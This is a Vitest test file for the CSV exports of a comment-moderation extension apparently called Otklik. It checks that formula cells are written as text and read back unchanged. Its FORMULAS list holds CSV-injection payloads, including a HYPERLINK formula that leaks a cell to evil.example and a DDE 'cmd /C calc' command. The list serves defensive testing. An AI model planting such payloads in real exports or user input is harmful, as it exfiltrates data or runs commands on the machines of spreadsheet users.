/**
 * No CSV Otklik writes carries a spreadsheet formula (issue 16): every export gets a hostile row and
 * must write it as text; the registry, which imports its own CSV back, reads it back unchanged.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { csvCell, neutraliseCsv, parseCsv, toCsv } from '@/lib/csv';
import { downloadText } from '@/lib/download';
import { logToCsv, type ModerationEntry } from '@/lib/moderation/log';
import { quotaToCsv } from '@/lib/quota/csv';
import { registryToCsv } from '@/lib/registry/export';
import { parseRegistryImport } from '@/lib/registry/import';
import { missedToCsv, type MissedReport } from '@/lib/reports/missed';
import { moderationToCsv, type ModerationReport } from '@/lib/reports/moderation';
import { entry } from './registry/helpers';

/** What a citizen can type into a comment, and what a spreadsheet would run. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
] as const;

/** Cells of a CSV as written, before any reading undoes the escape. */
function rawCells(csv: string): string[] {
  const cells: string[] = [];
  // A tiny reader without parseCsv's unescaping: the test must see the bytes a spreadsheet sees.
  let field = '';
  let quoted = false;
  const text = csv.replace(/^\ufeff/, '');
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ';' || ch === ',' || ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      cells.push(field);
      field = '';
    } else field += ch;
  }
  if (field) cells.push(field);
  return cells;
}

/** A cell a spreadsheet would take for a formula: starts with = + - @ tab or CR, and is no plain number. */
const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell);

function expectNoFormula(csv: string) {
  const bad = rawCells(csv).filter(runs);
  expect(bad, 'cells a spreadsheet would run').toEqual([]);
}

describe('csvCell', () => {
  it.each(FORMULAS)('writes %j as text, with a leading apostrophe', (value) => {
    expect(csvCell(value)).toBe(`'${value}`);
  });

  it('leaves ordinary text, numbers and plain signed numbers alone', () => {
    expect(csvCell('Когда дадут воду?')).toBe('Когда дадут воду?');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-123456')).toBe('-123456');
    expect(csvCell('+7')).toBe('+7');
    expect(csvCell('2,5')).toBe('2,5');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('reads back what it wrote, apostrophes of the user’s own included', () => {
    const values = [...FORMULAS, "'=1", "''+2", "'просто апостроф", '-1', 'обычный'];
    const csv = toCsv(['значение'], values.map((v) => [v]));
    expectNoFormula(csv);
    expect(parseCsv(csv).rows.slice(1).map((r) => r[0])).toEqual(values);
  });
});

describe('every CSV export writes formulas as text', () => {
  const hostile = FORMULAS[0];

  it('the moderation log', () => {
    const e: ModerationEntry = {
      site: 'vk', pageKey: 'vk:-1', pageUrl: 'https://vk.com/club1', pageName: '=1+1', postId: '-1_1', commentKey: 'vk:-1_2', commentId: '-1_2',
      permalink: 'https://vk.com/wall-1_1?reply=2', authorId: '5', authorName: '@Иван', authorUrl: 'https://vk.com/id5', text: hostile, publishedAt: null,
      categories: [], clauses: [], matches: ['+спам'], action: 'deleted', how: 'manual', scope: null, at: Date.UTC(2026, 0, 12, 5), recordedBy: '-Модератор',
    };
    const csv = logToCsv([e], 'Asia/Omsk');
    expectNoFormula(csv);
    const [, row] = parseCsv(csv).rows;
    expect(row).toContain(hostile);
    expect(row).toContain('@Иван');
    expect(row).toContain('-1_2');
  });

  it('missed deadlines', () => {
    const report: MissedReport = {
      period: { from: 0, to: 1 } as MissedReport['period'],
      now: 0,
      total: 1,
      byClause: [],
      skipped: [],
      workdayMinutes: 480,
      departments: [
        {
          department: '=Департамент',
          total: 1,
          minutesLate: 10,
          byClause: [],
          rows: [
            {
              messageId: 'm1', author: '+Автор', snippet: hostile, link: 'https://vk.com/wall-1_1?reply=2', deadline: 'replyDeadline', clause: '6',
              title: 'Ответ размещён', due: Date.UTC(2026, 0, 12, 5), doneAt: null, status: 'missed', minutesLate: -3, dateSuspect: false,
              department: '=Департамент', person: '@Пётр',
            },
          ],
        },
      ],
    };
    const csv = missedToCsv(report, 'Asia/Omsk');
    expectNoFormula(csv);
    const [, row] = parseCsv(csv).rows;
    expect(row).toContain(hostile);
    expect(row).toContain('-3');
  });

  it('the moderation report', () => {
    const report: ModerationReport = {
      period: { from: 0, to: 1 } as ModerationReport['period'],
      total: 2,
      byPage: [{ key: 'vk:-1', label: hostile, url: 'https://vk.com/club1', count: 2 }],
      byCategory: [{ key: 'spam', label: '+спам', count: 2 }],
      byClause: [{ key: '', label: '-п. 15', count: 2 }],
    };
    const csv = moderationToCsv(report);
    expectNoFormula(csv);
    expect(parseCsv(csv).rows[1]).toEqual(['Страница', hostile, 'https://vk.com/club1', '2']);
  });

  it('the registry, which imports its own file back unchanged', () => {
    const entries = [entry({ id: 'e1', name: hostile, responsible: '+7 (3812) 00-00-00, Иванова', notes: '@ответственный\n=1+1', ownerId: '-100' })];
    const csv = registryToCsv(entries);
    expectNoFormula(csv);
    const back = parseRegistryImport(csv, 'csv');
    if (!back.ok) throw new Error(back.errors.join('\n'));
    expect(back.entries[0]).toMatchObject({ name: hostile, responsible: '+7 (3812) 00-00-00, Иванова', notes: '@ответственный\n=1+1', ownerId: '-100' });
  });

  it('publications', () => {
    const csv = quotaToCsv([{ name: hostile, url: 'https://vk.com/club2', department: '-Отдел', target: 5, weeks: [] }]);
    expectNoFormula(csv);
    expect(parseCsv(csv).rows[1]).toEqual([hostile, 'https://vk.com/club2', '-Отдел', '5']);
  });
});

describe('the download door', () => {
  afterEach(() => vi.restoreAllMocks());

  async function saved(name: string, text: string, type?: string): Promise<string> {
    let blob: Blob | undefined;
    vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => ((blob = b as Blob), 'blob:x'));
    vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => {});
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    downloadText(name, text, type);
    return blob!.text();
  }

  it('neutralises a CSV written without toCsv', async () => {
    const rogue = '\ufeffТекст;Число\r\n=HYPERLINK("x");-5\r\n';
    const out = await saved('x.csv', rogue);
    expectNoFormula(out);
    expect(parseCsv(out).rows).toEqual([['Текст', 'Число'], ['=HYPERLINK("x")', '-5']]);
  });

  it('leaves a CSV from toCsv, and any other file, exactly as it is', async () => {
    const csv = toCsv(['a'], [[FORMULAS[0]], ['-1']]);
    expect(await saved('x.csv', csv)).toBe(csv);
    expect(neutraliseCsv(csv)).toBe(csv);
    expect(await saved('x.json', '{"a":"=1"}', 'application/json')).toBe('{"a":"=1"}');
  });
});

describe('one CSV writer', () => {
  /** Source files of the extension (not tests, not node_modules). */
  function sources(dir: string): string[] {
    return readdirSync(dir).flatMap((name) => {
      const path = join(dir, name);
      if (statSync(path).isDirectory()) return sources(path);
      return /\.tsx?$/.test(name) ? [path] : [];
    });
  }
  const root = join(__dirname, '..', '..');
  const files = ['lib', 'components', 'entrypoints'].flatMap((d) => sources(join(root, d)));

  it('every module that makes CSV makes it with toCsv, and only lib/csv.ts joins CSV lines', () => {
    const offenders: string[] = [];
    const found: string[] = [];
    for (const file of files) {
      const rel = relative(root, file).replace(/\\/g, '/');
      if (rel === 'lib/csv.ts') continue;
      const text = readFileSync(file, 'utf8');
      const writers = [...text.matchAll(/export function (\w*Csv)\s*\(/g)].map((m) => m[1]!).filter((n) => !/^(?:parse|read|detect|inspect)/.test(n));
      found.push(...writers);
      if (writers.length && !/import \{[^}]*\btoCsv\b[^}]*\} from '[^']*csv'/.test(text)) offenders.push(`${rel}: a CSV export without toCsv`);
      // Cells joined with a separator and lines with CRLF, in a file about CSV: a writer of its own.
      if (/csv/i.test(text) && /join\(\s*['"]\\r\\n['"]\s*\)/.test(text) && /join\(\s*['"][;,\t]['"]\s*\)/.test(text)) offenders.push(`${rel}: joins cells and lines itself`);
    }
    expect(offenders).toEqual([]);
    // The scan sees the exports this file tests one by one: a new one shows up here too.
    expect(found.sort()).toEqual(['logToCsv', 'missedToCsv', 'moderationToCsv', 'quotaToCsv', 'registryToCsv']);
  });
});
